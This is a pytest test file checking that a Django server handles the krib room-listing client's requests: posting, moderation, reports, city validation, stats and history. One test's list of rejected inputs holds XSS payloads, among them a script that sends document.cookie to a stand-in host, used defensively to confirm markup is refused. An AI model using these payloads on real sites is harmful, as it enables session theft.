"""krib's own web client against Kirb: every request exactly as that client sends it.

What the client (github: Ankur5522/krib, ``client/``) sends, read from its source:
- every call carries ``X-Browser-Fingerprint`` (a ThumbmarkJS hash); POSTs add
  ``Content-Type: application/json``;
- ``POST /messages`` with ``{browser_id, message, message_type, phone?, location,
  website: ""}``, where ``browser_id`` is a random uuid4 "device id" from localStorage,
  *not* the header fingerprint; ``phone`` is left out when empty;
- ``GET /messages?location=<city>`` without ``limit``, never paging;
- ``WS /ws`` with no query string at all: it filters frames itself, dropping any whose
  ``location`` is not exactly its city string, and any whose ``browser_id`` is its own
  device id (it showed that post already);
- ``POST /api/report`` with ``{message_id, reported_browser_id: <the post's browser_id>}``;
- ``POST /api/track-visitor`` with ``{}``; ``GET /api/stats/daily``;
  ``GET /api/stats/cities?current_city=<city>``; ``GET /api/cooldown``;
  ``GET /api/contact/<id>``.
On refusals it reads ``message`` (shown to the person) and ``retry_after_seconds``.
"""

import uuid
from urllib.parse import quote

import httpx
import pytest

from chat.forms import is_inert_html
from chat.models import CityView, Message
from security.models import Report
from tests.chat.test_admin import run_action
from tests.clients import BROWSER_USER_AGENT, Socket, new_ip
from tests.ops.test_metrics import moved_in_all_labels, scrape

pytestmark = pytest.mark.django_db(transaction=True)

# Cities of the client's picker that an earlier Kirb re-capitalised or refused.
KRIB_CITY_SPELLINGS = [
    "Vasai-Virar", "Kalyan-Dombivali", "Mira-Bhayandar", "Hubli-Dharwad",
    "Firozpur Cantt.", "Neyveli (TS)", "Shahabad, Hardoi",
]  # fmt: skip


class KribClient:
    """One browser running krib's client: a ThumbmarkJS fingerprint and a device id."""

    def __init__(self, server, city="Pune"):
        self.server = server
        self.city = city
        self.fingerprint = uuid.uuid4().hex  # ThumbmarkJS: 32 hex characters
        self.device_id = str(uuid.uuid4())
        self.ip = new_ip()
        headers = {"X-Browser-Fingerprint": self.fingerprint, "X-Forwarded-For": self.ip, "User-Agent": BROWSER_USER_AGENT}
        self.http = httpx.Client(base_url=server.url, headers=headers, timeout=10)

    def post(self, content, message_type="offered", phone=""):
        payload = {"browser_id": self.device_id, "message": content, "message_type": message_type}
        if phone:
            payload["phone"] = phone
        payload.update(location=self.city, website="")
        return self.http.post("/messages", json=payload)

    def initial_messages(self):
        response = self.http.get(f"/messages?location={quote(self.city)}")
        assert response.status_code == 200, response.text
        return response.json()

    def feed_socket(self):
        """The client's socket: ``/ws`` with nothing in the query string."""
        return Socket(self.server, "/ws", ip=self.ip, anonymous=True)

    def shows_live(self, frame):
        """The client's own filter on live frames."""
        return (not frame.get("location") or frame["location"] == self.city) and frame["browser_id"] != self.device_id


@pytest.fixture
def server(servers):
    return servers[0]


def test_posting_works_and_the_live_frame_echoes_the_device_id(servers):
    a, b = servers
    poster, reader = KribClient(a), KribClient(b)
    poster_socket, reader_socket = poster.feed_socket(), reader.feed_socket()

    response = poster.post("1RK near FC Road, 9k, girls only", phone="9876543210")
    assert response.status_code == 200, response.text
    posted = response.json()
    assert posted["browser_id"] == poster.device_id != poster.fingerprint
    assert posted["location"] == "Pune" and posted["phone"] == "9876543210"

    to_reader = reader_socket.recv()
    assert to_reader["id"] == posted["id"] and reader.shows_live(to_reader)
    to_poster = poster_socket.recv()
    assert to_poster["browser_id"] == poster.device_id and not poster.shows_live(to_poster)  # no double
    assert "phone" not in to_reader

    history = reader.initial_messages()
    assert [m["browser_id"] for m in history if m["id"] == posted["id"]] == [poster.device_id]
    stored = Message.objects.get(id=posted["id"])
    assert stored.poster_fingerprint == poster.fingerprint and stored.public_id == poster.device_id
    poster_socket.close()
    reader_socket.close()


def test_a_held_post_is_answered_as_krib_reads_a_post_and_reaches_others_once_approved(servers, moderator, held_text):
    a, b = servers
    poster, reader = KribClient(a), KribClient(b)
    reader_socket = reader.feed_socket()

    response = poster.post(held_text)
    assert response.status_code == 200, response.text
    held = response.json()
    assert {"id", "browser_id", "message", "message_type", "timestamp"} <= set(held) and held["held_for_review"] is True
    assert held["id"] in [m["id"] for m in poster.initial_messages()]
    assert held["id"] not in [m["id"] for m in reader.initial_messages()]

    assert run_action(moderator, "approve_and_publish", [held["id"]], changelist="admin:chat_heldmessage_changelist") == [
        "1 message approved and published."
    ]
    frame = reader_socket.recv()  # the first frame it gets: the held post was not sent before
    assert frame["id"] == held["id"] and reader.shows_live(frame) and "held_for_review" not in frame
    assert held["id"] in [m["id"] for m in reader.initial_messages()]
    reader_socket.close()


def test_refusals_carry_what_the_client_reads(server):
    client = KribClient(server)
    assert client.post("2BHK in Kothrud, 25k").status_code == 200
    cooldown = client.http.get("/api/cooldown").json()
    assert cooldown["can_post"] is False and 0 < cooldown["remaining_seconds"] <= 60

    again = client.post("Another room in Kothrud")
    assert again.status_code == 429
    assert again.json()["retry_after_seconds"] > 0 and again.json()["message"]

    spam = KribClient(server).post("Room available, whatsapp me on nine eight two two zero one two three four five")
    assert spam.status_code == 403 and spam.json()["message"]


def test_a_report_by_public_id_lands_on_the_stored_poster(server):
    poster = KribClient(server)
    posted = poster.post("Room in Baner, 12k").json()
    impostor = KribClient(server)
    impostor.device_id = poster.device_id  # anyone can send anyone's public id
    impostors_post = impostor.post("Room in Aundh, 11k").json()
    assert impostors_post["browser_id"] == poster.device_id

    reporter = KribClient(server)
    answer = reporter.http.post("/api/report", json={"message_id": posted["id"], "reported_browser_id": posted["browser_id"]})
    assert answer.status_code == 200, answer.text
    assert set(answer.json()) == {"success", "message", "reports_on_ip"}
    report = Report.objects.get(message_uuid=posted["id"])
    assert report.reported_fingerprint == poster.fingerprint  # the stored poster, not the impostor

    mismatch = reporter.http.post("/api/report", json={"message_id": posted["id"], "reported_browser_id": reporter.device_id})
    assert mismatch.status_code == 400 and mismatch.json()["error"] == "fingerprint_mismatch"


@pytest.mark.parametrize("city", KRIB_CITY_SPELLINGS)
def test_punctuated_cities_round_trip_exactly_live_and_in_history(server, city):
    poster, reader = KribClient(server, city), KribClient(server, city)
    socket = reader.feed_socket()
    posted = poster.post(f"Room for rent in {city}, 8k")
    assert posted.status_code == 200, posted.text
    assert posted.json()["location"] == city

    frame = socket.recv()
    assert frame["location"] == city and reader.shows_live(frame)
    assert [m["location"] for m in reader.initial_messages()] == [city]

    other_spelling = KribClient(server, city.upper())  # one feed, whatever the case
    assert [m["id"] for m in other_spelling.initial_messages()] == [posted.json()["id"]]
    socket.close()


def test_unknown_or_abusive_cities_are_refused_and_nothing_is_stored(server):
    for city in ["T.me Punerooms", "Fuckville", "nine eight two two zero", "Pune<script>"]:
        client = KribClient(server, city)
        response = client.post("Room available near the station")
        assert response.status_code == 400, city
        assert response.json()["error"] == "unknown_city"
        assert client.http.get("/messages", params={"location": city}).status_code == 400
        assert client.http.post("/api/track-visitor", json={"location": city}).status_code == 400
    assert Message.objects.count() == 0 and CityView.objects.count() == 0


def test_reading_a_city_counts_one_view_per_identity_per_day(server):
    readers = [KribClient(server, "Nagpur") for _ in range(3)]
    for reader in readers:
        reader.initial_messages()
    readers[0].initial_messages()  # a reload counts once
    KribClient(server, "nagpur").initial_messages()  # another spelling of the same feed
    assert KribClient(server).http.post("/api/track-visitor", json={}).json()["success"] is True

    stats = readers[0].http.get("/api/stats/cities?current_city=Nagpur").json()
    views = {row["city"]: row["views"] for row in stats}
    assert views["Nagpur"] == 4
    majors = ["Bengaluru", "Hyderabad", "Pune", "Chennai", "Kolkata", "Thiruvananthapuram", "Delhi", "Noida", "Gurgaon"]
    assert all(views[city] == 0 for city in majors)
    assert stats[0]["city"] == "Nagpur"


def test_history_without_limit_returns_everything_within_retention(server):
    poster = KribClient(server)
    Message.objects.bulk_create(
        Message(message=f"Room {n} in Pune", message_type="offered", location="Pune", city_key="pune",
                public_id=poster.device_id, poster_fingerprint=poster.fingerprint, poster_key="k" * 64)
        for n in range(150)
    )  # fmt: skip
    history = KribClient(server).initial_messages()
    assert len(history) == 150
    assert [m["message"] for m in history[:2]] == ["Room 0 in Pune", "Room 1 in Pune"]  # oldest first
    assert len(KribClient(server).http.get("/messages", params={"location": "Pune", "limit": 20}).json()) == 20


MARKUP = [
    "<img src=x onerror=alert(document.cookie)> room in Baner",
    "Nice flat <script>fetch('//evil.example/'+document.cookie)</script>",
    '<a href="javascript:alert(1)">click for photos</a>',
    "Room <b>cheap</b>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!-- hidden --> 1BHK",
]
ORDINARY = "2BHK & 3BHK, <10 min to metro, rent >= ₹18k, AT&T office 1<2"


def test_markup_is_refused_and_ordinary_text_is_served_as_written(server):
    for text in MARKUP:
        response = KribClient(server).post(text)
        assert response.status_code == 400, text
        assert response.json()["error"] == "markup_not_allowed"
    assert Message.objects.count() == 0

    posted = KribClient(server).post(ORDINARY)
    assert posted.status_code == 200, posted.text
    served = KribClient(server).initial_messages()
    assert [m["message"] for m in served] == [ORDINARY]
    assert all(is_inert_html(m["message"]) for m in served)


def test_stats_are_cached_so_a_render_loop_costs_no_queries(start_server):
    server = start_server(KIRB_STATS_CACHE_SECONDS="30")
    client = KribClient(server)
    first = client.http.get("/api/stats/cities?current_city=Pune")
    assert first.status_code == 200 and first.headers["Cache-Control"] == "public, max-age=30"
    assert client.http.get("/api/stats/daily").headers["Cache-Control"] == "public, max-age=30"
    # A scrape reads the review queue: first the queries of one scrape alone.
    earlier = scrape(server)
    before = scrape(server)
    scrape_alone = moved_in_all_labels(earlier, before, "django_db_execute_total")
    for _ in range(100):
        assert client.http.get("/api/stats/cities?current_city=Pune").json() == first.json()
    after = scrape(server)
    assert moved_in_all_labels(before, after, "django_db_execute_total") == scrape_alone
    assert moved_in_all_labels(before, after, "django_http_requests_total_by_view_transport_method_total") >= 100


def test_a_client_without_fingerprint_is_its_own_network_not_a_global_unknown(server):
    """krib's socket sends no fingerprint; two such clients on different networks are
    different identities, so nothing aimed at one can reach the other."""
    first, second = new_ip(), new_ip()
    headers = {"User-Agent": BROWSER_USER_AGENT}
    one = httpx.post(server.url + "/messages", json={"message": "Room in Wakad", "message_type": "offered", "location": "Pune"},
                     headers={**headers, "X-Forwarded-For": first})  # fmt: skip
    other = httpx.post(server.url + "/messages", json={"message": "Room in Hadapsar", "message_type": "offered", "location": "Pune"},
                       headers={**headers, "X-Forwarded-For": second})  # fmt: skip
    assert one.status_code == other.status_code == 200
    stored = {m.poster_ip: m.poster_fingerprint for m in Message.objects.all()}
    assert stored[first] != stored[second]
    assert all(fingerprint.startswith("unknown@") for fingerprint in stored.values())
